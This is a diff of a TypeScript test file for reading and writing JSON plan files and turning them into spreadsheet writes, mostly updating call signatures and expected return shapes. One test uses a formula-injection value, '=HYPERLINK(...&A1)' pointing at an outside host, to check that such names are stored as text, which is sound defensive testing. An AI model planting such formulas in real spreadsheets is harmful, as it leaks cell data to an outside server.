@@ -21,14 +21,17 @@ const withFirst = (patch: object) => ({
 
 describe('a plan file', () => {
   it('[S-40] should say what it is, for which schema, before anything else', () => {
-    const text = writePlanFile(plan, 'https://kpi.example.com/schema/plan.schema.json');
+    const text = writePlanFile(plan, { schemaAddress: 'https://kpi.example.com/schema/plan.schema.json' });
     expect(Object.keys(JSON.parse(text) as object).slice(0, 4)).toEqual(['$schema', 'format', 'schemaVersion', 'name']);
     expect(text.endsWith('}\n')).toBe(true);
-    expect(readPlanFile(text)).toEqual({ ok: true, value: plan });
+    expect(readPlanFile(text)).toEqual({ ok: true, value: { plan } });
   });
 
   it('[S-40] should be read after an editor has put a byte order mark before it, and Windows line ends into it', () => {
-    expect(readPlanFile(`\ufeff${writePlanFile(plan).replaceAll('\n', '\r\n')}`)).toEqual({ ok: true, value: plan });
+    expect(readPlanFile(`\ufeff${writePlanFile(plan).replaceAll('\n', '\r\n')}`)).toEqual({
+      ok: true,
+      value: { plan },
+    });
   });
 
   it('[S-40] should be refused with line and character where it is no JSON', () => {
@@ -100,7 +103,7 @@ describe('a plan file', () => {
   it('[S-42] should bring names that look like formulas into the workbook as text', () => {
     const hostile = '=HYPERLINK("http://example.com/?"&A1)';
     const read = readPlanFile(fileOf({ ...withFirst({ name: hostile }), name: hostile }));
-    const ops = read.ok ? atOnce(planWrites(planSheet(read.value, 'en'))) : null;
+    const ops = read.ok ? atOnce(planWrites(planSheet(read.value.plan, 'en'))) : null;
     expect(JSON.stringify(ops?.formulas)).not.toContain('HYPERLINK');
     const written = (ops?.contents ?? []).flatMap((op) => (op.kind === 'values' ? op.values.flat() : []));
     expect(written.filter((cell) => cell === `'${hostile}`)).toHaveLength(2);
